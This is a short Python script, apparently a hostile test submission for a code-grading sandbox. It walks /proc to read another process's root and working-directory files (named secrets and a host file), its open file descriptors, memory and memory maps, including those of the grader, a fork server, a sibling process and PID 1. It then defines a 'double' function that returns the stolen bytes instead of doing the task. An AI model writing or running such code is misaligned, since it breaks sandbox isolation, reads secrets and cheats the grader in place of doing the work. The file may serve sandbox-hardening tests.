"""Learns files of the grader through the root, working directory, open files and memory that /proc shows of other processes."""

import os

found = []


def read(path):
    try:
        with open(path, "rb") as file:
            found.append(file.read(20_000))
    except OSError:
        pass


for pid in (GRADER, FORKSERVER, SIBLING, os.getppid(), 1):
    for name in ("root", "cwd"):
        for path in (*SECRETS, HOST_FILE):
            read(f"/proc/{pid}/{name}{path}")
    for number in range(30):
        read(f"/proc/{pid}/fd/{number}")
    read(f"/proc/{pid}/mem")
    read(f"/proc/{pid}/maps")


def double(x):
    return found
